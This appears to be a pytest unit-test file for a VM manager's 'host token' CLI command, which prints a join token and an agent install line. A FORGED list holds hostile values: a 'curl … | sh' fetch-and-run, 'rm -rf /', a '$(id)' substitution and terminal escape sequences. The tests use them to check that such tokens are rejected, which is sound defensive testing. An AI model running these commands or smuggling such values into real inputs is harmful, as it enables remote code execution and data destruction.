"""nqr host token: what people paste on the new host, and what goes to a file."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from typing import Any

import pytest
from tests.unit.cli.test_vm_commands import Handler, Manager, answering

from nqrust.cli import connection
from nqrust.cli.__main__ import run
from nqrust.installer.settings.model import Settings

AT = "2026-01-01T00:00:00Z"
FINGERPRINT = "ab" * 32


class Hosts(Handler):
    token = f"nqr_made.{FINGERPRINT}"

    def reply(self) -> tuple[int, Any]:
        body = self.server.asked[-1][2]
        return 201, {"token": self.token, "host": body["host"], "expires_at": AT}


@pytest.fixture
def manager(monkeypatch: pytest.MonkeyPatch) -> Iterator[Manager]:
    monkeypatch.setattr(
        connection, "installed_settings", lambda: Settings.model_validate({"manager": {"bind": "192.0.2.7:18080"}})
    )
    with answering(Hosts, monkeypatch) as server:
        yield server


def line(manager: Manager, name: str = "h2", scheme: str = "https") -> str:
    port = manager.server_address[1]
    return f"./scripts/install/install.sh --mode agent --agent-name {name} --manager-url {scheme}://192.0.2.7:{port}"


def test_terminal_gets_one_line_to_paste(
    manager: Manager, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    assert run(["host", "token", "h2"]) == 0
    shown = capsys.readouterr()
    whole = f"(umask 077; echo nqr_made.{FINGERPRINT} >join-token); {line(manager)} --join-token-file join-token\n"
    assert shown.out == whole
    assert "can join once with this token" in shown.err and "Paste this line as root" in shown.err


def test_file_gets_the_token_alone(manager: Manager, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["host", "token", "h2"]) == 0
    shown = capsys.readouterr()
    assert shown.out == f"nqr_made.{FINGERPRINT}\n"
    assert f"{line(manager)} --join-token-file FILE" in shown.err and "nqr_made" not in shown.err


def test_manager_without_tls_is_named_with_http(
    manager: Manager, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Hosts, "token", "nqr_made")
    assert run(["host", "token", "h2"]) == 0
    assert line(manager, scheme="http") in capsys.readouterr().err


FORGED = ["nqr_x; curl http://192.0.2.1/x | sh #", "nqr_x\x1b[2K", "nqr_x\nrm -rf /", "", "nqr_x.$(id)", f"nqr_x.{FINGERPRINT}0"]


@pytest.mark.parametrize("terminal", [True, False])
@pytest.mark.parametrize("forged", FORGED)
def test_nothing_of_a_forged_token_is_shown(
    manager: Manager, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, forged: str, terminal: bool
) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
    monkeypatch.setattr(Hosts, "token", forged)
    assert run(["host", "token", "h2"]) == 1
    shown = capsys.readouterr()
    assert shown.out == "" and "NQR-USE-043" in shown.err and "nqr_x" not in shown.err


def test_the_name_is_one_word_of_the_line(manager: Manager, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["host", "token", "h2;\x1b[2K id"]) == 0
    assert "--agent-name 'h2;\ufffd[2K id' --manager-url" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("given", "bind", "found"),
    [
        ("http://127.0.0.1:18080", "192.0.2.7:18080", "http://192.0.2.7:18080"),
        ("http://localhost:18080", "0.0.0.0:18080", "http://192.0.2.9:18080"),
        ("http://127.0.0.1:18080", "127.0.0.1:18080", "http://192.0.2.9:18080"),
        ("https://vms.example.org", "0.0.0.0:18080", "https://vms.example.org"),
    ],
)
def test_address_for_other_machines(monkeypatch: pytest.MonkeyPatch, given: str, bind: str, found: str) -> None:
    monkeypatch.setattr(connection, "installed_settings", lambda: Settings.model_validate({"manager": {"bind": bind}}))
    monkeypatch.setattr(connection, "_own_address", lambda: "192.0.2.9")
    assert connection.reached_from_elsewhere(given) == found


class TwoMachines(Handler):
    def reply(self) -> tuple[int, Any]:
        host = {
            "id": "1", "name": "h2", "state": "online", "url": "http://192.0.2.7:19090", "version": "1", "boot_id": "b", "vmm": "qemu",
            "accel": "kvm", "kvm": True, "capacity": {"cpus": 1, "memory_mib": 1}, "network": {"bridge": "b0"}, "created_at": AT,
            "conflict": "Two machines report as host h2.",
        }  # fmt: skip
        return 200, {"items": [host], "total": 1} if self.path == "/v1/hosts" else host


def test_host_with_two_machines_is_shown(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    with answering(TwoMachines, monkeypatch):
        assert run(["host", "ls"]) == 0
        assert capsys.readouterr().out.splitlines()[1].split()[:2] == ["h2", "conflict"]
        assert run(["host", "show", "h2"]) == 0
    assert "Two machines report as host h2." in capsys.readouterr().out
